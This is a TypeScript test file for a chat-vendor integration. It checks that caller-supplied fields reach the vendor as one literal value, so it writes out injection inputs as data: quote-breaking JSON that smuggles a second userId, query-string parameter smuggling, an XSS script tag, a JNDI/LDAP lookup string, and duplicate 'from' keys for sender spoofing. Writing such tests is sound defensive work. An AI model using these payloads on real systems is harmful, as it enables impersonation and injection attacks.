import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { GOOD_BODIES, message } from '../support/vendor-world.ts'
import { call, type RequestParts } from '../support/world.ts'
import { withText } from './attack.ts'
import { type RouteName, routeOf } from './routes.ts'
import { type AttackWorld, startAttackWorld } from './world.ts'

/**
 * What a caller writes reaches the vendor as that one value, whatever it would mean there. Where the vendor's own
 * rules refuse it, what counts is what it heard.
 */

let world: AttackWorld
beforeAll(async () => {
  world = await startAttackWorld()
})
afterAll(() => world.close())

/** The members that the vendor heard of one call. */
const heard = async (route: RouteName, vendor: 'cec' | 'live', parts: RequestParts): Promise<unknown[]> => {
  const seen: unknown[] = []
  const emulator = world.vendors.vendors[vendor]
  // A fault that never comes: it only looks.
  emulator.fail({ fault: 'reset', times: 'always', when: (fields) => seen.push({ ...fields }) < 0 })
  await call(world.vendors, world.handlers[route], parts)
  emulator.clearFaults()
  return seen
}
const good = (route: RouteName): RequestParts => routeOf(route).good(world)

const QUOTED = 'a","userId":"victim'

describe('what a vendor hears', () => {
  it.each([
    ['userName', QUOTED],
    ['channelId', QUOTED],
    ['channelId', 'web&userId=victim'],
    ['userId', '1","userId":"victim'],
    ['userName', '\\","x":"'],
    ['userName', '</script><script>alert(1)</script>'],
    ['userName', '${jndi:ldap://other.invalid/x}'],
  ])('of applyToken is one value: %s %j', async (member, value) => {
    const body = { ...GOOD_BODIES.applyToken, [member]: value }
    expect(await heard('applyToken', 'cec', { ...good('applyToken'), body })).toEqual([body])
  })

  it.each([
    ['receiverId', '1&receiverId=victim'],
    ['receiverId', '1#x'],
    ['receiverId', '../send?x=1'],
    ['receiverId', '1%26x%3D1'],
    ['channel', 'WEB&receiverId=victim'],
  ])('of poll is one value: %s %j', async (parameter, value) => {
    const query = { receiverId: '10010001', channel: 'WEB', [parameter]: value }
    expect(await heard('poll', 'cec', { ...good('poll'), query })).toEqual([query])
  })

  it.each(['content', 'to', 'timestamp'])('of send is one value: %s', async (member) => {
    const body = message({ [member]: QUOTED })
    expect(await heard('send', 'cec', { ...good('send'), body })).toEqual([body])
  })

  it('of send names one sender, the one that was judged: with a second one it hears nothing', async () => {
    const text = JSON.stringify(message())
    for (const second of ['{"from":"victim",', '{"fr\\u006fm":"victim",'])
      expect(await heard('send', 'cec', withText(good('send'), text.replace('{', second)))).toEqual([])
    expect(await heard('send', 'cec', withText(good('send'), text))).toMatchObject([{ from: '10010001' }])
  })

  it.each(['tom', '1234567890_.', 'a'.repeat(32)])(
    'of GetMessageToken is the tenant’s own AppId: %s',
    async (UserId) => {
      const body = { ...GOOD_BODIES.liveMessageToken, UserId }
      expect(await heard('liveMessageToken', 'live', { ...good('liveMessageToken'), body })).toEqual([
        { ...body, AppId: 'live-202007159031' },
      ])
    },
  )
})
